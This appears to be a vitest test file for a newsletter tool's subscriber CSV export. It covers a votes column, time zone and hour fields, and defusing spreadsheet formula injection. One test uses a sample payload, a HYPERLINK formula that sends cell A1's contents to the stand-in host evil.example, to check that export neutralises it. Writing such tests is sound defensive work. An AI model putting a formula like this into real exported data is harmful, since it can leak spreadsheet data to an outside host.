import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import type { Subscriber } from '../../src/domain.js';
import { EXPORT_HEADER, exportLine } from '../../src/subscribers/export-csv.js';
import { checkRow } from '../../src/subscribers/import-csv.js';

const base: Subscriber = {
  id: 1,
  email: 'ada@example.com',
  name: 'Ada',
  status: 'active',
  statusReason: null,
  topics: [],
  pausedUntil: null,
  timezone: null,
  hour: null,
  softBounces: 0,
  confirmedAt: null,
  confirmSentAt: null,
  request: null,
  frequency: 'daily',
  weekday: 1,
  sendAnyway: true,
  createdAt: '2026-11-29T10:00:00.000Z',
  updatedAt: '2026-11-29T10:00:00.000Z',
};

/** One exported line read back as `subscribers import` reads it: csv-parse with the header, then checkRow. */
function roundTrip(s: Subscriber) {
  const [record] = parse(`${EXPORT_HEADER}\n${exportLine(s)}\n`, { columns: true }) as Record<string, string>[];
  return { record, row: checkRow(record ?? {}, 2) };
}

describe('subscribers export: votes', () => {
  it('ends each line with the reader’s votes, newest first, that import leaves alone', () => {
    const line = exportLine(base, 'up:2511.00001 down:2511.00002');
    expect(line.split(',').at(-1)).toBe('up:2511.00001 down:2511.00002');
    expect(roundTrip(base).row).toMatchObject({ email: 'ada@example.com' });
  });
});

describe('subscribers export: CSV injection', () => {
  it('writes a value that would start a spreadsheet formula with an apostrophe, and import takes it off', () => {
    const evil = '=HYPERLINK("https://evil.example/?"&A1,"Click")';
    const line = exportLine({ ...base, name: evil });
    expect(line).toBe(
      `ada@example.com,"'=HYPERLINK(""https://evil.example/?""&A1,""Click"")",,active,,,,2026-11-29T10:00:00.000Z,`,
    );
    const { record, row } = roundTrip({ ...base, name: evil });
    expect(record?.name).toBe(`'${evil}`);
    expect(row).toMatchObject({ email: 'ada@example.com', name: evil });
  });

  it('defuses +, -, @ and a leading tab too, including in the address, and leaves other values alone', () => {
    expect(exportLine({ ...base, name: '+1 555' }).split(',')[1]).toBe("'+1 555");
    expect(exportLine({ ...base, name: '@SUM(A1)' }).split(',')[1]).toBe("'@SUM(A1)");
    expect(exportLine({ ...base, name: '\tTab' }).split(',')[1]).toBe("'\tTab");
    expect(exportLine({ ...base, email: '-dash@example.com' }).split(',')[0]).toBe("'-dash@example.com");
    expect(roundTrip({ ...base, email: '-dash@example.com' }).row).toMatchObject({ email: '-dash@example.com' });
    expect(exportLine({ ...base, name: "O'Brien" }).split(',')[1]).toBe("O'Brien");
    expect(exportLine({ ...base, name: 'Zoë = 1' }).split(',')[1]).toBe('Zoë = 1');
    // An apostrophe a reader typed before something harmless is theirs, and stays.
    expect(roundTrip({ ...base, name: "'Quoted'" }).row).toMatchObject({ name: "'Quoted'" });
  });
});

describe('subscribers export: time zone and hour', () => {
  it('writes a reader’s zone and hour, empty for the list’s defaults, and import reads them back', () => {
    const berlin = { ...base, timezone: 'Europe/Berlin', hour: 7 };
    expect(EXPORT_HEADER).toBe('email,name,topics,status,status_reason,timezone,hour,created_at,votes');
    expect(exportLine(berlin)).toBe('ada@example.com,Ada,,active,,Europe/Berlin,7,2026-11-29T10:00:00.000Z,');
    expect(exportLine(base)).toBe('ada@example.com,Ada,,active,,,,2026-11-29T10:00:00.000Z,');
    expect(roundTrip(berlin).row).toMatchObject({ timezone: 'Europe/Berlin', hour: 7 });
    expect(roundTrip(base).row).toMatchObject({ timezone: null, hour: null });
  });
});
